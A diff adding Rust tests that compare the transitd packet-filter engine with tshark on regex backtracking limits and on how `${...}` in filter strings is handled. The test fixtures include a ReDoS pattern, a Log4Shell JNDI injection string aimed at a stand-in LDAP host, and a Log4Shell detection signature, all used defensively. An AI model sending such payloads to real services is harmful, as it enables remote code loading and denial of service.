@@ -289,6 +289,56 @@ fn patterns_match_what_pcre2_matches() {
     assert!(compared >= 90 && selective * 10 >= compared * 8, "{selective} of {compared} patterns select a frame");
 }
 
+/// PCRE2 backtracks, and gives up after its match limit (10,000,000 steps), which tshark then
+/// counts as no match: `(a+)+$` over forty `a`s and `!a` would take PCRE2 some 2^40 steps
+/// before it tried the last `a`. transitd's engine is linear and finds the match that `a$`
+/// finds in both.
+#[test]
+fn difference_tshark_counts_a_match_pcre2_gave_up_on_as_none() {
+    let file = std::env::temp_dir().join(format!("transitd-match-backtrack-{}.pcap", std::process::id()));
+    let script = r#"
+e = Ether(src='02:00:00:00:00:01', dst='02:00:00:00:00:02')/IP(src='10.0.0.1', dst='10.0.0.2')
+frames = [e/UDP(sport=1234, dport=9)/Raw(b'a' * 40 + b'!a'), e/UDP(sport=1235, dport=9)/Raw(b'a' * 40 + b'!'),
+          e/UDP(sport=1236, dport=9)/Raw(b'a' * 8)]
+"#;
+    scapy_pcap(&file, script);
+    let (plain, nested) = ("udp.payload matches \"a$\"", "udp.payload matches \"(a+)+$\"");
+    assert_eq!(theirs(&file, plain), BTreeSet::from([1, 3]));
+    assert_eq!(theirs(&file, nested), BTreeSet::from([3]), "PCRE2 gives up on the first datagram");
+    assert_eq!(transitd_frames(&file, plain), BTreeSet::from([1, 3]));
+    assert_eq!(transitd_frames(&file, nested), BTreeSet::from([1, 3]));
+    let _ = std::fs::remove_file(&file);
+}
+
+/// tshark expands display filter macros (`${name}`, `${name:args}`) anywhere in a filter's
+/// text, inside strings too, and refuses a filter naming a macro it lacks: the Log4Shell
+/// signature `contains "${jndi:"` is refused there. transitd has no macros: the string is
+/// its bytes, and selects what tshark selects for the same bytes written `\x24{`.
+#[test]
+fn difference_a_dollar_brace_in_a_string_is_text_not_a_macro() {
+    let file = std::env::temp_dir().join(format!("transitd-match-macro-{}.pcap", std::process::id()));
+    let script = r#"
+e = Ether(src='02:00:00:00:00:01', dst='02:00:00:00:00:02')/IP(src='10.0.0.1', dst='10.0.0.2')
+frames = [e/TCP(sport=1234, dport=8080, flags='PA')/Raw(b'GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n'),
+          e/TCP(sport=1235, dport=8080, flags='PA')/Raw(b'GET / HTTP/1.1\r\nUser-Agent: $jndi:{x}\r\n\r\n'),
+          e/UDP(sport=1236, dport=9)/Raw(b'${a}')]
+"#;
+    scapy_pcap(&file, script);
+    let mut sharkd = Sharkd::open(&file, &[]);
+    for (dollar_brace, same_bytes) in [
+        (r#"tcp.payload contains "${jndi:""#, r#"tcp.payload contains "\x24{jndi:""#),
+        (r#"tcp.payload matches "\\${jndi""#, r#"tcp.payload matches "\\x24\\{jndi""#),
+        (r#"udp.payload == "${a}""#, r#"udp.payload == "\x24{a}""#),
+    ] {
+        assert!(sharkd.frames(dollar_brace).is_err(), "tshark reads a macro in `{dollar_brace}`");
+        let selected = sharkd.frames(same_bytes).unwrap_or_else(|e| panic!("tshark refuses `{same_bytes}`: {e}"));
+        assert_eq!(selected.len(), 1, "`{same_bytes}`");
+        assert_eq!(transitd_frames(&file, dollar_brace), selected, "`{dollar_brace}`");
+    }
+    drop(sharkd);
+    let _ = std::fs::remove_file(&file);
+}
+
 /// tshark's `tcp.options.mss_val` holds every MSS option of a segment, transitd's the first
 /// and the last (the one Linux's receiver uses): they agree but on a segment with an MSS
 /// option between two others, which is documented.
